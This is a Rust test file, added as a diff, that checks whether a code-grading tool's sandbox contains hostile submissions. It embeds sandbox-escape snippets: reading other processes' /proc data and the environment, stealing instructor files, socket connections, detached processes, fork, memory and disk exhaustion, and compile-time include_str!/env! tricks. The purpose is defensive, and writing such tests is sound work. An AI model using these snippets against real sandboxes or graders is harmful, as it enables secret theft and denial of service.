@@ -1,0 +1,557 @@
+//! Attacks on the cage (issue 18), each as a submission graded in one batch
+//! beside a correct one (`grade`), and the reading ones as a learner's tests
+//! (`check --mine`). Each attack puts whatever it manages to get into its own
+//! panic message, so that it would reach the report; for each, the report
+//! holds none of it, nothing it started survives the run, and the correct
+//! submission in the batch scores exactly what it scores alone (100).
+//!
+//! Slow: one batch of 18 submissions, about 6 minutes on 2 cores (the
+//! thousand processes, the memory bomb and the flood in each trial of step 5).
+
+use std::net::{TcpListener, UdpSocket};
+use std::os::unix::net::UnixListener;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::sync::OnceLock;
+
+mod common;
+use common::{eventually_none, processes_named, processes_under, root};
+
+/// What no report may hold.
+const TOKEN: &str = "s3cr3t-ci-token-4b1d";
+const PEER_MARKER: &str = "PEER-SECRET-7f3a9c";
+/// A sentence of `mutants/README.md` and one of `wheats/README.md`: the
+/// instructor's files.
+const MUTANTS_TEXT: &str = "deliberate break of an implementation";
+
+/// Where the reference's `renew` starts doing its work: attacks go before it.
+const RENEW: &str =
+    "    check_ttl(ttl)?;\n    check_now(now)?;\n    let conn = open(path.as_ref())?;";
+
+/// The machine the attacks aim at: listeners and paths made by the test.
+struct Targets {
+    dir: tempfile::TempDir,
+    tcp: TcpListener,
+    udp: UdpSocket,
+    unix: UnixListener,
+    unix_path: PathBuf,
+    peer: PathBuf,
+}
+
+impl Targets {
+    fn new() -> Targets {
+        let dir = tempfile::tempdir().unwrap();
+        let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
+        tcp.set_nonblocking(true).unwrap();
+        let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
+        udp.set_nonblocking(true).unwrap();
+        let unix_path = dir.path().join("grader.sock");
+        let unix = UnixListener::bind(&unix_path).unwrap();
+        unix.set_nonblocking(true).unwrap();
+        let peer = dir.path().join("peer.rs");
+        let peer_source =
+            fencelab::lab::reference::REFERENCE.replacen("\n", &format!("\n// {PEER_MARKER}\n"), 1);
+        std::fs::write(&peer, peer_source).unwrap();
+        Targets {
+            dir,
+            tcp,
+            udp,
+            unix,
+            unix_path,
+            peer,
+        }
+    }
+
+    /// Fills the attack's placeholders.
+    fn fill(&self, code: &str) -> String {
+        code.replace("TCP_ADDR", &self.tcp.local_addr().unwrap().to_string())
+            .replace("UDP_ADDR", &self.udp.local_addr().unwrap().to_string())
+            .replace("UNIX_PATH", &self.unix_path.display().to_string())
+            .replace("PEER_PATH", &self.peer.display().to_string())
+            .replace("ROOT", &root().display().to_string())
+            .replace("HOME_DIR", &std::env::var("HOME").unwrap_or("/root".into()))
+    }
+}
+
+/// Attacks that run (name, code put at the start of `renew`).
+const RUNTIME: [(&str, &str); 11] = [
+    (
+        "peer_via_proc",
+        r#"{
+        let mut seen = String::new();
+        if let Ok(entries) = std::fs::read_dir("/proc") {
+            for e in entries.flatten() {
+                let cmd = std::fs::read(e.path().join("cmdline")).unwrap_or_default();
+                for arg in String::from_utf8_lossy(&cmd).split('\0') {
+                    if arg.ends_with(".rs") {
+                        seen.push_str(&std::fs::read_to_string(arg).unwrap_or_default());
+                    }
+                }
+            }
+        }
+        seen.push_str(&std::fs::read_to_string("PEER_PATH").unwrap_or_default());
+        panic!("STOLEN [{seen}]");
+    }"#,
+    ),
+    (
+        "instructor_files",
+        r#"{
+        let mut seen = String::new();
+        for dir in ["ROOT/mutants", "ROOT/wheats", "ROOT/tests/behaviour", "ROOT/target/fencelab"] {
+            for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
+                seen.push_str(&std::fs::read_to_string(e.path()).unwrap_or_default());
+            }
+        }
+        panic!("STOLEN [{seen}]");
+    }"#,
+    ),
+    (
+        "environment",
+        r#"{
+        let seen: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
+        panic!("STOLEN [{}]", seen.join(" "));
+    }"#,
+    ),
+    (
+        "network",
+        r#"{
+        use std::io::Write;
+        use std::net::ToSocketAddrs;
+        let tcp = std::net::TcpStream::connect("TCP_ADDR").map(|mut s| s.write_all(b"LEAK"));
+        let udp = std::net::UdpSocket::bind("0.0.0.0:0").and_then(|s| s.send_to(b"LEAK", "UDP_ADDR"));
+        let dns = "localhost:80".to_socket_addrs().map(|a| a.count());
+        let far = "example.com:53".to_socket_addrs().map(|a| a.count());
+        panic!("NET tcp={} udp={} dns={} far={}", tcp.is_ok(), udp.is_ok(), dns.is_ok(), far.is_ok());
+    }"#,
+    ),
+    (
+        "unix_socket",
+        r#"{
+        use std::io::Write;
+        let got = std::os::unix::net::UnixStream::connect("UNIX_PATH").map(|mut s| s.write_all(b"LEAK"));
+        let siblings = std::fs::read_dir(std::env::temp_dir().join("../..")).map(|d| d.count());
+        panic!("UNIX connected={} siblings={:?}", got.is_ok(), siblings.ok());
+    }"#,
+    ),
+    (
+        "escapes",
+        r#"{
+        let _ = std::process::Command::new("setsid").args(["env", "-i", "sleep", "303"]).spawn();
+        let _ = std::process::Command::new("sh").args(["-c", "(setsid env -i sleep 304 &) &"]).status();
+    }"#,
+    ),
+    (
+        "fills_disk",
+        r#"{
+        use std::io::Write;
+        let chunk = vec![7u8; 1 << 20];
+        for n in 0..4 {
+            let Ok(mut f) = std::fs::File::create(std::env::temp_dir().join(format!("fill{n}"))) else { break };
+            for _ in 0..300 {
+                if f.write_all(&chunk).is_err() { break; }
+            }
+        }
+    }"#,
+    ),
+    (
+        "thousand_processes",
+        r#"{
+        let mut started = 0;
+        for _ in 0..1000 {
+            if std::process::Command::new("sleep").arg("305").spawn().is_ok() { started += 1; }
+        }
+        let _ = started;
+    }"#,
+    ),
+    (
+        "writes_outside",
+        r#"{
+        let _ = std::fs::write("/tmp/fencelab-attack-tmp", "x");
+        let _ = std::fs::write("HOME_DIR/.fencelab-attack-home", "x");
+        let _ = std::fs::write("ROOT/target/fencelab-attack-cache", "x");
+    }"#,
+    ),
+    (
+        "memory_bomb",
+        r#"{
+        let mut hog: Vec<Vec<u8>> = Vec::new();
+        for _ in 0..64 {
+            hog.push(vec![1u8; 256 << 20]);
+        }
+        panic!("ALLOCATED {}", hog.len());
+    }"#,
+    ),
+    (
+        "floods_output",
+        r#"{
+        let line = "x".repeat(1023);
+        for _ in 0..10_000 {
+            println!("{line}");
+            eprintln!("{line}");
+        }
+        panic!("FLOODED");
+    }"#,
+    ),
+];
+
+/// Attacks at compile time: each file must be refused before it is built.
+const COMPILE_TIME: [(&str, &str); 5] = [
+    (
+        "env_after_slashes",
+        r#"let _s = "//"; let _t: &str = env!("FENCELAB_ATTACK_TOKEN");"#,
+    ),
+    (
+        "include_after_slashes",
+        r#"let _s = "a // b"; let _t: &str = include_str!("PEER_PATH");"#,
+    ),
+    ("path_with_spaces", "#[ path = \"PEER_PATH\" ]\nmod stolen;"),
+    (
+        "macro_built",
+        "macro_rules! m { ($x:ident) => { $x!(\"FENCELAB_ATTACK_TOKEN\") } }\nconst _T: &str = m!(env);",
+    ),
+    (
+        "raw_string_hidden",
+        "const _S: &str = r#\"\\\"#; const _K: &str = include_str!(\"PEER_PATH\");",
+    ),
+];
+
+struct Graded {
+    json: serde_json::Value,
+    /// stdout, stderr and the JSON report, together.
+    everything: String,
+    leftovers: Vec<String>,
+    targets: Targets,
+}
+
+fn graded() -> &'static Graded {
+    static GRADED: OnceLock<Graded> = OnceLock::new();
+    GRADED.get_or_init(|| {
+        let targets = Targets::new();
+        let dir = targets.dir.path();
+        let reference = fencelab::lab::reference::REFERENCE;
+        assert!(reference.contains(RENEW));
+        let mut paths = vec![root().join("src/lease.rs"), targets.peer.clone()];
+        for (name, code) in RUNTIME {
+            let source = reference.replacen(RENEW, &format!("{}\n{RENEW}", targets.fill(code)), 1);
+            let file = dir.join(format!("{name}.rs"));
+            std::fs::write(&file, source).unwrap();
+            paths.push(file);
+        }
+        for (name, code) in COMPILE_TIME {
+            let file = dir.join(format!("{name}.rs"));
+            std::fs::write(&file, format!("{reference}\n{}\n", targets.fill(code))).unwrap();
+            paths.push(file);
+        }
+        let json = dir.join("grade.json");
+        let tmp = tempfile::tempdir().unwrap();
+        let out = Command::new(env!("CARGO_BIN_EXE_fencelab"))
+            .arg("grade")
+            .args(&paths)
+            .args(["--timeout", "10", "--jobs", "2", "--json"])
+            .arg(&json)
+            .env("TMPDIR", tmp.path())
+            .env("FENCELAB_ATTACK_TOKEN", TOKEN)
+            .env("NO_COLOR", "1")
+            .env_remove("GITHUB_ACTIONS")
+            .env_remove("GITHUB_STEP_SUMMARY")
+            .current_dir(root())
+            .output()
+            .unwrap();
+        let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
+        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
+        let report = std::fs::read_to_string(&json).unwrap_or_else(|e| panic!("{e}: {stderr}"));
+        let leftovers = eventually_none(|| {
+            let mut found = processes_under(tmp.path());
+            for n in 303..=305 {
+                found.extend(processes_named(&format!("sleep {n}")));
+            }
+            found
+        });
+        Graded {
+            json: serde_json::from_str(&report).unwrap(),
+            everything: format!("{stdout}\n{stderr}\n{report}"),
+            leftovers,
+            targets,
+        }
+    })
+}
+
+fn submission(name: &str) -> &'static serde_json::Value {
+    graded().json["submissions"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|s| s["name"].as_str().unwrap().ends_with(&format!("{name}.rs")))
+        .unwrap_or_else(|| panic!("no submission {name}: {}", graded().everything))
+}
+
+/// The failure messages of a submission's tests, together.
+fn messages(name: &str) -> String {
+    submission(name)["tests"]
+        .as_array()
+        .map(|tests| {
+            tests
+                .iter()
+                .filter_map(|t| t["message"].as_str())
+                .collect::<Vec<_>>()
+                .join("\n")
+        })
+        .unwrap_or_default()
+}
+
+#[test]
+fn nothing_the_attacks_took_reaches_the_report() {
+    let all = &graded().everything;
+    for secret in [
+        TOKEN,
+        PEER_MARKER,
+        MUTANTS_TEXT,
+        "fn holder_extends_a_live_lease",
+    ] {
+        assert!(!all.contains(secret), "{secret} reached the report");
+    }
+    // The attacks ran (their messages are there) and got nothing.
+    assert!(
+        messages("peer_via_proc").contains("STOLEN []"),
+        "{}",
+        messages("peer_via_proc")
+    );
+    assert!(
+        messages("instructor_files").contains("STOLEN []"),
+        "{}",
+        messages("instructor_files")
+    );
+    let env = messages("environment");
+    assert!(env.contains("STOLEN ["), "{env}");
+    assert!(
+        !env.contains("FENCELAB_ATTACK_TOKEN") && !env.contains("CARGO"),
+        "{env}"
+    );
+}
+
+#[test]
+fn no_network_and_no_socket_of_the_graders() {
+    let net = messages("network");
+    assert!(
+        net.contains("NET tcp=false udp=false dns=false far=false"),
+        "{net}"
+    );
+    let unix = messages("unix_socket");
+    assert!(
+        unix.contains("UNIX connected=false siblings=None"),
+        "{unix}"
+    );
+    let targets = &graded().targets;
+    assert!(
+        targets.tcp.accept().is_err(),
+        "a TCP connection got through"
+    );
+    assert!(
+        targets.udp.recv(&mut [0u8; 16]).is_err(),
+        "a datagram got through"
+    );
+    assert!(
+        targets.unix.accept().is_err(),
+        "the grader's socket was reached"
+    );
+}
+
+#[test]
+fn nothing_outlives_the_run_and_nothing_is_written_outside_the_trial() {
+    assert!(graded().leftovers.is_empty(), "{:?}", graded().leftovers);
+    let home = std::env::var("HOME").unwrap_or("/root".into());
+    for path in [
+        PathBuf::from("/tmp/fencelab-attack-tmp"),
+        Path::new(&home).join(".fencelab-attack-home"),
+        root().join("target/fencelab-attack-cache"),
+    ] {
+        assert!(!path.exists(), "{} was written", path.display());
+    }
+}
+
+#[test]
+fn a_correct_submission_beside_the_attacks_scores_what_it_scores_alone() {
+    for correct in ["lease", "peer"] {
+        assert_eq!(submission(correct)["score"], 100.0, "{correct}");
+    }
+    // The attacks that only take their own trial down fail there, with
+    // their reason, and the output is capped.
+    let flooded = submission("floods_output")["tests"].as_array().unwrap();
+    for t in flooded.iter().filter(|t| t["outcome"] != "passed") {
+        let message = t["message"].as_str().unwrap_or("");
+        assert!(message.len() < 20 * 1024, "{} bytes", message.len());
+    }
+    let memory = messages("memory_bomb");
+    assert!(!memory.contains("ALLOCATED 64"), "{memory}");
+}
+
+#[test]
+fn reading_at_compile_time_is_refused_however_it_is_hidden() {
+    for (name, _) in COMPILE_TIME {
+        let s = submission(name);
+        assert_eq!(s["score"], 0.0, "{name}: {s}");
+        let reason = s.to_string();
+        assert!(
+            reason.contains("reads files or the environment while compiling"),
+            "{name}: {reason}"
+        );
+    }
+}
+
+#[test]
+fn require_isolation_refuses_where_a_layer_is_missing() {
+    let run = |without: Option<&str>| {
+        let mut command = Command::new(env!("CARGO_BIN_EXE_fencelab"));
+        command
+            .args(["grade", "--require-isolation", "does-not-exist.rs"])
+            .env("NO_COLOR", "1")
+            .current_dir(root());
+        if let Some(layer) = without {
+            command.env("FENCELAB_CAGE_WITHOUT", layer);
+        }
+        let out = command.output().unwrap();
+        (
+            out.status.code(),
+            String::from_utf8_lossy(&out.stderr).into_owned(),
+        )
+    };
+    let layers = fencelab::bridge::sandbox::Layers::probe();
+    for layer in ["namespaces", "landlock"] {
+        let (code, stderr) = run(Some(layer));
+        assert_eq!(code, Some(4), "{layer}: {stderr}");
+        assert!(stderr.contains("--require-isolation"), "{stderr}");
+    }
+    if layers.namespaces && layers.landlock.is_some() {
+        // Everything is there: it goes on (to a missing file, exit 2).
+        let (code, stderr) = run(None);
+        assert_eq!(code, Some(2), "{stderr}");
+        assert!(!stderr.contains("warning"), "{stderr}");
+    }
+}
+
+/// The reading and reaching attacks as a learner's tests (`check --mine`,
+/// `grade --tests`): the suite is the untrusted side, judged against the
+/// reference, the wheats and the instructor's mutants.
+const AS_TESTS: &str = r#"
+use lab as lease;
+
+#[test]
+fn reads_the_instructors_files() {
+    let mut seen = String::new();
+    for dir in ["ROOT/mutants", "ROOT/wheats", "ROOT/tests/behaviour", "ROOT/target/fencelab"] {
+        for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
+            seen.push_str(&std::fs::read_to_string(e.path()).unwrap_or_default());
+        }
+    }
+    panic!("STOLEN [{seen}]");
+}
+
+#[test]
+fn reads_other_processes() {
+    let mut seen = String::new();
+    for e in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
+        for file in ["cmdline", "environ"] {
+            let text = std::fs::read(e.path().join(file)).unwrap_or_default();
+            seen.push_str(&String::from_utf8_lossy(&text));
+        }
+    }
+    panic!("STOLEN [{seen}]");
+}
+
+#[test]
+fn reads_the_environment() {
+    let seen: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
+    panic!("STOLEN [{}]", seen.join(" "));
+}
+
+#[test]
+fn reaches_out() {
+    use std::io::Write;
+    use std::net::ToSocketAddrs;
+    let tcp = std::net::TcpStream::connect("TCP_ADDR").map(|mut s| s.write_all(b"LEAK"));
+    let udp = std::net::UdpSocket::bind("0.0.0.0:0").and_then(|s| s.send_to(b"LEAK", "UDP_ADDR"));
+    let dns = "localhost:80".to_socket_addrs().map(|a| a.count());
+    let unix = std::os::unix::net::UnixStream::connect("UNIX_PATH").map(|mut s| s.write_all(b"LEAK"));
+    panic!("NET tcp={} udp={} dns={} unix={}", tcp.is_ok(), udp.is_ok(), dns.is_ok(), unix.is_ok());
+}
+
+#[test]
+fn escapes_and_writes_outside() {
+    let _ = std::process::Command::new("setsid").args(["env", "-i", "sleep", "306"]).spawn();
+    let _ = std::fs::write("/tmp/fencelab-attack-test-tmp", "x");
+    let _ = std::fs::write("ROOT/target/fencelab-attack-test-cache", "x");
+    let _ = lease::init_db(std::env::temp_dir().join("jobs.db"));
+}
+"#;
+
+#[test]
+fn a_learners_tests_see_only_their_own_trial() {
+    use fencelab::judging::{self as mine, Judges};
+    let targets = Targets::new();
+    let lab = tempfile::tempdir().unwrap();
+    let dir = lab.path().join("tests/mine");
+    std::fs::create_dir_all(&dir).unwrap();
+    std::fs::write(
+        lab.path().join("Cargo.toml"),
+        "[package]\nname = \"lab\"\nversion = \"0.1.0\"\nedition = \"2024\"\n",
+    )
+    .unwrap();
+    std::fs::write(dir.join("main.rs"), targets.fill(AS_TESTS)).unwrap();
+    let tests = mine::read(lab.path()).unwrap_or_else(|e| panic!("{e}"));
+    let scratch = fencelab::engine::scratch::Scratch::locate(&root().join("target")).unwrap();
+    let options = mine::Options {
+        jobs: fencelab::engine::runner::default_jobs(),
+        timeout: Some(std::time::Duration::from_secs(10)),
+    };
+    let judges = Judges::load(None, None).unwrap();
+    let report = mine::judge(&tests, &judges, &options, &scratch, &mut |_, _| {})
+        .unwrap_or_else(|e| panic!("{e}"));
+    let said = |name: &str| -> String {
+        let t = report
+            .tests
+            .iter()
+            .find(|t| t.test.ends_with(name))
+            .unwrap();
+        t.wrong_on
+            .iter()
+            .map(|w| w.message.as_str())
+            .collect::<Vec<_>>()
+            .join("\n")
+    };
+    let all = serde_json::to_string(&report).unwrap();
+    for secret in [
+        MUTANTS_TEXT,
+        "CARGO_",
+        "fn holder_extends_a_live_lease",
+        "FENCELAB_IMPL",
+    ] {
+        assert!(!all.contains(secret), "{secret} reached the report");
+    }
+    assert!(said("reads_the_instructors_files").contains("STOLEN []"));
+    assert!(said("reads_other_processes").contains("STOLEN []"));
+    assert!(said("reads_the_environment").contains("STOLEN ["));
+    assert!(
+        said("reaches_out").contains("NET tcp=false udp=false dns=false unix=false"),
+        "{}",
+        said("reaches_out")
+    );
+    assert!(
+        targets.tcp.accept().is_err(),
+        "a TCP connection got through"
+    );
+    assert!(
+        targets.udp.recv(&mut [0u8; 16]).is_err(),
+        "a datagram got through"
+    );
+    assert!(
+        targets.unix.accept().is_err(),
+        "the grader's socket was reached"
+    );
+    assert!(eventually_none(|| processes_named("sleep 306")).is_empty());
+    for path in [
+        PathBuf::from("/tmp/fencelab-attack-test-tmp"),
+        root().join("target/fencelab-attack-test-cache"),
+    ] {
+        assert!(!path.exists(), "{} was written", path.display());
+    }
+}
